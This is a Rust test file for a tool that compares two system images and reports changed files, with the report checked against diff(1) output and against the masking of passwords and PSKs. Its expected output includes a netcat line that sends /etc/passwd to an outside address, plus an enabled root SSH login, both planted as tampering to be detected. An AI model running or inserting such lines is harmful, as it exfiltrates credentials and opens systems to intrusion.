//! What is told of changed texts, against what diff(1) says of them: by the baseline alone, and with the other image at hand.

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;

use crate::{reference, schemas};

/// What diff(1) says of one file: lines that are new by their number, lines that are gone, with what number they had.
#[derive(Default)]
struct Said {
    added: Vec<(usize, String)>,
    removed: Vec<(usize, String)>,
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/texts")
        .join(name)
}

/// The normal form of diff(1): `8a9,10`, then `< gone` and `> new` in order.
fn said() -> BTreeMap<String, Said> {
    let text = fs::read_to_string(fixture("changes.diff")).unwrap();
    let mut all: BTreeMap<String, Said> = BTreeMap::new();
    let (mut path, mut old, mut new) = (String::new(), 0, 0);
    for line in text.lines() {
        let said = all.entry(path.clone()).or_default();
        if let Some(line) = line.strip_prefix("< ") {
            said.removed.push((old, line.to_owned()));
            old += 1;
        } else if let Some(line) = line.strip_prefix("> ") {
            said.added.push((new, line.to_owned()));
            new += 1;
        } else if let Some(names) = line.strip_prefix("diff ") {
            path.clear();
            path.push_str(names.split_once(" new").unwrap().1);
        } else if line != "---" {
            let sides: Vec<&str> = line.split(['a', 'c', 'd']).collect();
            let first = |side: &str| side.split(',').next().unwrap().parse().unwrap();
            (old, new) = (first(sides[0]), first(sides[1]));
        }
    }
    all.retain(|path, _| !path.is_empty());
    all
}

fn is_secret(line: &str) -> bool {
    line.contains("password") || line.contains("psk")
}

#[track_caller]
fn has(told: &[String], wanted: &str) {
    assert!(
        told.iter().any(|text| text == wanted),
        "{wanted}: {told:#?}"
    );
}

/// Every line that is new stands in the explanation with its number, as a command where it is one; and nothing else is called new.
#[track_caller]
fn holds_added(told: &[String], said: &Said, is_script: bool) {
    let mut shown = 0;
    for (number, line) in said.added.iter().filter(|(_, line)| !is_secret(line)) {
        let start = if is_script {
            format!("new command in line {number}: ")
        } else {
            format!("new line {number}: {}", line.trim())
        };
        assert!(
            told.iter().any(|text| text.starts_with(&start)),
            "{start}: {told:#?}"
        );
        shown += 1;
    }
    let new = told.iter().filter(|text| text.starts_with("new ")).count();
    assert_eq!(new, shown, "{told:#?}");
}

#[test]
fn a_baseline_alone_tells_what_is_new() {
    let baseline = reference::baseline(&fs::read(fixture("old.tar")).unwrap());
    let (code, comparison) = reference::judge(&baseline, &fs::read(fixture("new.tar")).unwrap());
    assert_ne!(code, 0);
    let said = said();
    assert_eq!(comparison.changes.len(), said.len());
    for change in &comparison.changes {
        let said = &said[change.path.as_deref().unwrap()];
        let path = change.path.as_deref().unwrap();
        holds_added(
            &change.explanation,
            said,
            path.ends_with("rcS") || path.ends_with("export.py"),
        );
        let gone: usize = change
            .explanation
            .iter()
            .filter_map(|text| text.split_once(" line")?.0.parse::<usize>().ok())
            .sum();
        let removed = said.removed.iter().filter(|(_, line)| !is_secret(line));
        assert_eq!(gone, removed.count(), "{:#?}", change.explanation);
        assert!(!format!("{change:?}").contains("secret\""), "{change:?}");
    }
    let of = |name: &str| {
        let mut changes = comparison.changes.iter();
        let change = changes.find(|it| it.path.as_deref().unwrap().ends_with(name));
        change.unwrap().explanation.clone()
    };
    has(
        &of("rcS"),
        "new command in line 13: mount -t nfs 10.9.8.7:/export /mnt",
    );
    has(
        &of("export.py"),
        "new command in line 4: nc 10.9.8.7 99 < /etc/passwd",
    );
    has(
        &of("export.py"),
        "without these lines it is the expected text, to the byte",
    );
}

#[test]
fn beside_the_other_image_what_is_gone_is_told_too() {
    let (report, _) = schemas::run(&[
        "diff",
        fixture("old.tar").to_str().unwrap(),
        fixture("new.tar").to_str().unwrap(),
    ]);
    schemas::holds(&schemas::schema("report"), &report, "diff");
    let text = report.to_string();
    for secret in ["first", "second", "third", "fourth"] {
        assert!(
            !text.contains(&format!("{secret}-secret"))
                && !text.contains(&format!("{secret} secret"))
        );
    }
    let of = |name: &str| -> Vec<String> {
        let changes = report["changes"].as_array().unwrap();
        let change = changes
            .iter()
            .find(|it| it["path"].as_str().unwrap().ends_with(name))
            .unwrap();
        let texts = change["explanation"].as_array().unwrap().iter();
        texts
            .map(|text| text.as_str().unwrap().to_owned())
            .collect()
    };
    has(
        &of("sshd_config"),
        "line 3: PermitRootLogin is yes instead of no",
    );
    has(&of("monitor.ini"), "line 2: volume is 0 instead of 80");
    has(
        &of("monitor.ini"),
        "line 6 has another secret: password = ***",
    );
    has(
        &of("wpa_supplicant.conf"),
        "line 3 has another secret: psk=\"***",
    );
    let gone = of("rcS");
    for (number, line) in &said()["/etc/init.d/rcS"].removed {
        has(
            &gone,
            &format!(
                "line {number} of the expected text is gone: {}",
                line.trim()
            ),
        );
    }
}
